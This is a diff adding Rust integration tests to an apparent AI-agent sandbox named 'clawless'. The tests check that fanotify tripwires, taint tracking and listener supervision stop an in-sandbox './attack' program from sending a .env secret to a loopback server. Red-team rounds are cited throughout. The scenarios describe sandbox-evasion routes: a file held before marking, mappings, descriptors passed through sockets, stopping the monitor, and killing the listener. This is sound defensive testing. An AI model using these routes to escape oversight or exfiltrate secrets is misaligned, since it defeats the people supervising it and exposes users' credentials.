@@ -2853,7 +2853,7 @@ fn isolated_files_the_policy_cache_stays_unwritable() {
 /// host-opens-block-on-monitor: a process outside the sandbox that opens a file
 /// the sandbox's tripwires marked is answered at once (ahead of the sandbox's own
 /// opens, which the monitor decides) while the agent floods that tripwire. (A
-/// *stopped* `clawless` still stalls such opens: docs/threat-model.md.)
+/// stopped `clawless`: `isolated_files_a_stopped_clawless_does_not_stall_outside_opens`.)
 #[test]
 fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_floods_it() {
     if !kernel_opens() {
@@ -2887,5 +2887,374 @@ fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_flood
     assert!(
         worst < Duration::from_millis(500),
         "an outside open waited {worst:?}"
+    );
+}
+
+/// Is some fanotify group of process `pid` marking the inode of `path`?
+fn marked_by(pid: u32, path: &std::path::Path) -> bool {
+    use std::os::unix::fs::MetadataExt;
+    let Ok(m) = std::fs::metadata(path) else {
+        return false;
+    };
+    let ino = format!("ino:{:x} ", m.ino());
+    std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
+        .into_iter()
+        .flatten()
+        .flatten()
+        .any(|e| {
+            std::fs::read_to_string(e.path())
+                .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
+        })
+}
+
+/// watcher-window-early-open (red team round 4), made deterministic: the agent
+/// holds an ordinary file (`how`: a descriptor, a shared mapping, a descriptor in
+/// flight in a socket's queue) when the user's tool renames it to `.env` and
+/// writes the secret into it; the watcher's mark meets only later opens, so the
+/// late mark must find what the sandbox holds and decide a read for it first.
+fn early_hold_taints(how: &str, ip: &str) {
+    if !kernel_opens() {
+        eprintln!(
+            "not run: late marks are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated mode decides opens by name and has no marks (docs/threat-model.md)"
+        );
+        return;
+    }
+    let f = Fixture::new(&format!("iso-early-{how}")).with_attack();
+    std::fs::write(f.ws.join("draft"), vec![0u8; 4096]).unwrap();
+    let server = Tcp::new(ip, 443);
+    let script =
+        format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack earlyhold {how} draft {ip} 443");
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let pid = child.id();
+    let start = std::time::Instant::now();
+    while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let held = f.ws.join("held").exists();
+    if held {
+        // The user's tool: `draft` becomes `.env`, then the secret goes in.
+        std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
+        let t = std::time::Instant::now();
+        while !marked_by(pid, &f.ws.join(".env")) && t.elapsed() < Duration::from_secs(30) {
+            std::thread::sleep(Duration::from_millis(1));
+        }
+        assert!(
+            marked_by(pid, &f.ws.join(".env")),
+            "the watcher did not mark .env"
+        );
+        std::thread::sleep(Duration::from_millis(300));
+        use std::os::unix::fs::FileExt;
+        let w = std::fs::OpenOptions::new()
+            .write(true)
+            .open(f.ws.join(".env"))
+            .unwrap();
+        w.write_all_at(b"SECRET-ENV-early-held-5150\n", 0).unwrap();
+        drop(w);
+    }
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let out = stdout(&o);
+    let got = server.received();
+    assert!(held, "the agent never held the file\n{}", show(&o));
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the channel did not work: {got:?}\n{}",
+        show(&o)
+    );
+    if how == "inflight" {
+        // Passed into the queue and closed; after the taint the socket that holds
+        // it is shut (its receive is refused), which is the taint too.
+        assert!(
+            out.contains("earlyhold pass: ok=1") && out.contains("earlyhold receive: "),
+            "the attack did not run\n{}",
+            show(&o)
+        );
+    } else {
+        assert!(
+            out.contains("earlyhold read: ") && !out.contains("earlyhold read: -1"),
+            "the attack did not read\n{}",
+            show(&o)
+        );
+    }
+    assert!(
+        !got.contains("LEAK:"),
+        "the secret left the sandbox: {got:?}\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("socket: errno=") || out.contains("earlyhold connect: errno="),
+        "not tainted\n{}",
+        show(&o)
+    );
+    kernel_decided(&o);
+}
+
+#[test]
+fn isolated_files_a_descriptor_held_before_the_mark_taints_when_it_lands() {
+    early_hold_taints("fd", "127.77.16.60");
+}
+
+#[test]
+fn isolated_files_a_mapping_held_before_the_mark_taints_when_it_lands() {
+    early_hold_taints("map", "127.77.16.61");
+}
+
+#[test]
+fn isolated_files_a_descriptor_in_flight_before_the_mark_taints_when_it_lands() {
+    early_hold_taints("inflight", "127.77.16.62");
+}
+
+/// The tripwire listener of the `clawless` run `pid` (a child named `claw-tripwires`).
+fn tripwire_listener(pid: u32) -> Option<i32> {
+    std::fs::read_dir("/proc").ok()?.flatten().find_map(|e| {
+        let p: i32 = e.file_name().to_str()?.parse().ok()?;
+        let stat = std::fs::read_to_string(format!("/proc/{p}/stat")).ok()?;
+        let rest = &stat[stat.rfind(')')? + 1..];
+        let ppid: u32 = rest.split_whitespace().nth(1)?.parse().ok()?;
+        (ppid == pid && stat.contains("(claw-tripwires)")).then_some(p)
+    })
+}
+
+/// Starts an agent that proves its channel, creates `started`, then waits for
+/// `go` (up to 20 s) and tries to send `.env`; returns once `.env` is marked.
+fn start_tripwired_agent(f: &Fixture, ip: &str) -> std::process::Child {
+    std::fs::write(f.ws.join(".env"), "SECRET-ENV-listener-4242\n").unwrap();
+    let script = format!(
+        "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; touch started; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; echo survived; ./attack isoleak plain .env {ip} 443"
+    );
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let start = std::time::Instant::now();
+    while !f.ws.join("started").exists() && start.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    child
+}
+
+/// a stopped clawless stalls outside opens (red team rounds 3 and 4): with
+/// `clawless` stopped (`SIGSTOP`: what `^Z`'s `SIGTSTP` does to it too), a process
+/// outside the sandbox that opens a file `clawless` marked is answered at once by
+/// the listener, a process of its own.
+#[test]
+fn isolated_files_a_stopped_clawless_does_not_stall_outside_opens() {
+    if !kernel_opens() {
+        eprintln!("not run: tripwires are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
+        return;
+    }
+    let ip = "127.77.16.63";
+    let server = Tcp::new(ip, 443);
+    let f = Fixture::new("iso-stopped").with_attack();
+    let child = start_tripwired_agent(&f, ip);
+    let pid = child.id();
+    let started = f.ws.join("started").exists();
+    let marked = marked_by(pid, &f.ws.join(".env"));
+    let mut waited = None;
+    for sig in [libc::SIGSTOP, libc::SIGTSTP] {
+        if !(started && marked) {
+            break;
+        }
+        // SAFETY: our own child.
+        unsafe { libc::kill(pid as i32, sig) };
+        // Until the kernel has stopped every thread of it.
+        let t = std::time::Instant::now();
+        while t.elapsed() < Duration::from_secs(5)
+            && !std::fs::read_to_string(format!("/proc/{pid}/stat"))
+                .is_ok_and(|s| s[s.rfind(')').unwrap() + 2..].starts_with('T'))
+        {
+            std::thread::sleep(Duration::from_millis(1));
+        }
+        let path = f.ws.join(".env");
+        let (tx, rx) = std::sync::mpsc::channel();
+        std::thread::spawn(move || {
+            let t = std::time::Instant::now();
+            let r = std::fs::read_to_string(path);
+            let _ = tx.send((r.map_err(|e| e.to_string()), t.elapsed()));
+        });
+        let got = rx.recv_timeout(Duration::from_secs(5));
+        // SAFETY: our own child.
+        unsafe { libc::kill(pid as i32, libc::SIGCONT) };
+        let got = got.or_else(|_| {
+            rx.recv_timeout(Duration::from_secs(30))
+                .map(|(r, _)| (r, Duration::MAX))
+        });
+        waited = Some((sig, got));
+        if waited
+            .as_ref()
+            .is_some_and(|(_, g)| !matches!(g, Ok((Ok(_), d)) if *d < Duration::from_secs(5)))
+        {
+            break;
+        }
+    }
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    assert!(
+        started && marked,
+        "the agent did not start, or .env is no tripwire\n{}",
+        show(&o)
+    );
+    assert!(
+        server.received().starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the channel did not work\n{}",
+        show(&o)
+    );
+    let (sig, got) = waited.expect("no stop was tried");
+    match got {
+        Ok((Ok(text), d)) if d < Duration::from_secs(5) => {
+            assert_eq!(text, "SECRET-ENV-listener-4242\n");
+            eprintln!("outside open of the tripwire with clawless stopped (signal {sig}): {d:?}");
+        }
+        other => panic!(
+            "with clawless stopped by signal {sig}, an outside open of the tripwire stalled: {other:?}\n{}",
+            show(&o)
+        ),
+    }
+    assert!(!server.received().contains("LEAK:"), "{}", show(&o));
+    kernel_decided(&o);
+}
+
+/// If the tripwire listener dies, its group would allow every open once closed:
+/// the sandbox is killed first, and does not get to read the secret untainted.
+#[test]
+fn isolated_files_the_sandbox_does_not_outlive_its_tripwire_listener() {
+    if !kernel_opens() {
+        eprintln!("not run: tripwires are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
+        return;
+    }
+    let ip = "127.77.16.64";
+    let server = Tcp::new(ip, 443);
+    let f = Fixture::new("iso-listener-dies").with_attack();
+    let child = start_tripwired_agent(&f, ip);
+    let pid = child.id();
+    let started = f.ws.join("started").exists();
+    let listener = tripwire_listener(pid);
+    if let Some(l) = listener {
+        // SAFETY: the listener, a child of our child, found just now.
+        unsafe { libc::kill(l, libc::SIGKILL) };
+    }
+    let t = std::time::Instant::now();
+    let o = wait_with_deadline(child, Duration::from_secs(60));
+    let took = t.elapsed();
+    // A sandbox that survived would see `go` and read the secret untainted.
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    assert!(started, "the agent did not start\n{}", show(&o));
+    assert!(listener.is_some(), "no tripwire listener process\n{}", show(&o));
+    assert!(
+        server.received().starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the channel did not work\n{}",
+        show(&o)
+    );
+    assert!(
+        stderr(&o).contains("killing the sandbox: the tripwire listener died"),
+        "{}",
+        show(&o)
+    );
+    assert!(
+        !stdout(&o).contains("survived"),
+        "the sandbox outlived its listener\n{}",
+        show(&o)
+    );
+    assert!(
+        took < Duration::from_secs(15),
+        "the sandbox ran on for {took:?}\n{}",
+        show(&o)
+    );
+    assert!(!server.received().contains("LEAK:"), "{}", show(&o));
+    // The group is gone with the sandbox: an outside open does not wait.
+    let t = std::time::Instant::now();
+    assert!(std::fs::read_to_string(f.ws.join(".env")).is_ok());
+    assert!(t.elapsed() < Duration::from_secs(5));
+}
+
+/// A policy that lets the agent see its secrets but never read them (and
+/// write its workspace, where the attack program is).
+const UNREADABLE_SECRETS: &str = r#"
+use std::groups::*;
+use std::paths::*;
+
+policy unreadable_secrets {
+    let workspace = path "$WORKSPACE/**";
+    default deny(EACCES);
+    always {
+        allow memory, time, signals, process_basic, identity, process, io;
+        allow read, visible, exec system_ro;
+        allow read, visible proc_info;
+        allow visible everything;
+        allow read [root, dev_config];
+        allow read, write, append devices;
+        allow read, write, append, visible, exec workspace;
+        allow visible secrets;
+        deny read secrets;
+        kill dangerous;
+    }
+    assert never read secrets;
+}
+"#;
+
+/// A late mark whose read the policy refuses in the current state: the process
+/// holding the file from before the mark is killed before it reads a byte of the
+/// secret (the channel here is the agent's own stdout, which works: `held`).
+#[test]
+fn isolated_files_a_holder_the_policy_refuses_the_secret_is_killed_when_the_mark_lands() {
+    if !kernel_opens() {
+        eprintln!("not run: late marks are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
+        return;
+    }
+    let f = Fixture::new("iso-early-killed").with_attack();
+    let pol = f.root.join("unreadable.claw");
+    std::fs::write(&pol, UNREADABLE_SECRETS).unwrap();
+    clawc_is_built();
+    std::fs::write(f.ws.join("draft"), vec![0u8; 4096]).unwrap();
+    let mut cmd = f.command(
+        &["--policy", pol.to_str().unwrap()],
+        &["./attack", "earlyhold", "fd", "draft", "127.77.16.65", "443"],
+    );
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let pid = child.id();
+    let start = std::time::Instant::now();
+    while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let held = f.ws.join("held").exists();
+    if held {
+        std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
+        let t = std::time::Instant::now();
+        while !marked_by(pid, &f.ws.join(".env")) && t.elapsed() < Duration::from_secs(30) {
+            std::thread::sleep(Duration::from_millis(1));
+        }
+        std::thread::sleep(Duration::from_millis(300));
+        use std::os::unix::fs::FileExt;
+        let w = std::fs::OpenOptions::new()
+            .write(true)
+            .open(f.ws.join(".env"))
+            .unwrap();
+        w.write_all_at(b"SECRET-ENV-never-read-6161\n", 0).unwrap();
+    }
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let out = stdout(&o);
+    assert!(
+        // `held` is the agent's own marker (its stdout may not all get through:
+        // it is killed).
+        held && out.contains("earlyhold open: ok="),
+        "the attack did not run\n{}",
+        show(&o)
+    );
+    kernel_decided(&o);
+    assert!(
+        !out.contains("earlyhold read:"),
+        "the holder read the secret\n{}",
+        show(&o)
+    );
+    assert!(
+        stderr(&o).contains("killed 1 sandbox process holding"),
+        "{}",
+        show(&o)
     );
 }
